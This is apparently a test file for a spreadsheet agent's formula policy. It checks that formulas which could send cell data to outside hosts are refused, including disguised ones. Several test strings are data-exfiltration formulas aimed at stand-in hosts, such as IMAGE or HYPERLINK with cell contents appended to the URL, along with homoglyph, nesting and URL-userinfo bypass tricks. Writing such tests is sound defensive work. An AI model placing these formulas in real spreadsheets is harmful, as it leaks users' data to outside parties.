from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sheets_agent.formulas.policy import SENDING, SERVICES, FunctionPolicy, hosts_in, is_formula

PLAIN = FunctionPolicy()


@pytest.mark.parametrize(
    "formula",
    [
        *(f'={name}("https://x.example/?"&A1)' for name in sorted(SENDING)),
        '=image("x")',
        '=SUM(1,IF(A1,LET(u,"x",IMAGE(u)),0))',
        '={1,IMAGE("x")}',
        "=MAP(A1:A3,IMAGE)",
        '=LET(IMAGE,LAMBDA(x,x),IMAGE("x"))',
        '="=IMP"&"ORTXML("&A1&")"',
        '=HYPERLINK(A1,"x")',
        '=HYPERLINK("https://x.example/"&A1)',
        '=HYPERLINK("https://x.example/","x")',
        '=HYPERLINK("mailto:a@x.example","x")',
        "=HYPERLINK()",
        "=SEND_MAIL(A1)",
        "=LET(send,1,send)+SEND(A1)",
        '=IМAGE("x")',
        "=SUM(A1",
        "=",
    ],
)
def test_refused(formula: str) -> None:
    assert PLAIN.refusals(formula)


@pytest.mark.parametrize(
    "formula",
    [
        "=SUM(A1:A3)*1.5%",
        "=LET(twice,LAMBDA(x,x*2),twice(A1))",
        '=HYPERLINK("#gid=0&range=A1","up")',
        '="Images are made with IMAGE"',
        "=Sales[Amount]",
        '=GOOGLEFINANCE("CURRENCY:USDRUB")',
    ],
)
def test_let_through(formula: str) -> None:
    assert PLAIN.refusals(formula) == ()


def test_a_link_may_lead_where_the_task_says() -> None:
    named = FunctionPolicy(hosts=hosts_in("Link each order to https://Shop.Example/orders, please."))
    assert named.refusals('=HYPERLINK("https://shop.example/orders/1","1")') == ()
    for other in (
        "https://shop.example.evil.test/",
        "https://shop.example@evil.test/",
        "https://evil.test/shop.example",
    ):
        assert named.refusals(f'=HYPERLINK("{other}","1")')


def test_services_need_a_word_where_nobody_is_asked() -> None:
    alone = FunctionPolicy(services=False)
    assert all(alone.refusals(f"={name}(A1)") for name in SERVICES)
    assert FunctionPolicy(frozenset({"AI"}), services=False).refusals("=AI(A1)") == ()


def test_what_is_allowed_is_allowed_alone() -> None:
    policy = FunctionPolicy(frozenset({"IMPORTRANGE"}))
    assert policy.refusals('=IMPORTRANGE("x","A1")') == ()
    assert "--allow-function IMAGE" in policy.refusals('=IMPORTRANGE(IMAGE("x"),"A1")')[0]


@given(st.sampled_from(sorted(SENDING)), st.lists(st.sampled_from(["IF(TRUE,{})", "({})", "-{}", "{}&A1", "{{1,{}}}"])))
def test_nesting_hides_nothing(name: str, wraps: list[str]) -> None:
    inner = f'{name}("x")'
    for wrap in wraps[:20]:
        inner = wrap.format(inner)
    assert PLAIN.refusals(f"={inner}")


@pytest.mark.parametrize(
    ("text", "is_one"), [("=A1", True), ("\u200b=A1", True), (" +A1", True), ("-5", False), ("a=1", False)]
)
def test_what_becomes_a_formula(text: str, is_one: bool) -> None:
    assert is_formula(text) is is_one


@pytest.mark.parametrize(
    "formula",
    [
        "=LET(x,SEND(A1),SEND,LAMBDA(a,a),x)",
        "=LET(SEND,SEND(A1),SEND)",
        "=MAP(A1:A3,HYPERLINK)",
        '=(HYPERLINK)("https://q9z.example/"&A1)',
        '=HYPERLINK("https://q9z.example\\@shop.example/")',
        '=HYPERLINK("https://q9z.example@shop.example/")',
        '=HYPERLINK("https://shop.example@q9z.example/")',
        '=HYPERLINK("https://q9z.example\t/@shop.example/")',
        '=HYPERLINK("mailto:a@shop.example,b@q9z.example")',
        '=HYPERLINK("mailto:a@shop.example?cc=b@q9z.example")',
        '=HYPERLINK("//shop.example/")',
    ],
)
def test_ways_around_a_name_or_an_address(formula: str) -> None:
    assert FunctionPolicy(hosts=frozenset({"shop.example"})).refusals(formula)


@pytest.mark.parametrize(
    "formula",
    [
        "=LET(f,LAMBDA(a,a+1),g,f(2),g+f(1))",
        "=LAMBDA(f,f(1))(LAMBDA(x,x))",
        "=LET(ai,1,ai+1)",
        '=HYPERLINK("https://shop.example:8443/a b?c#d")',
        '=HYPERLINK("shop.example?page=1")',
        '=HYPERLINK("mailto:a@shop.example?subject=Order 7")',
    ],
)
def test_names_and_addresses_that_are_what_they_look_like(formula: str) -> None:
    assert FunctionPolicy(hosts=frozenset({"shop.example"}), services=False).refusals(formula) == ()
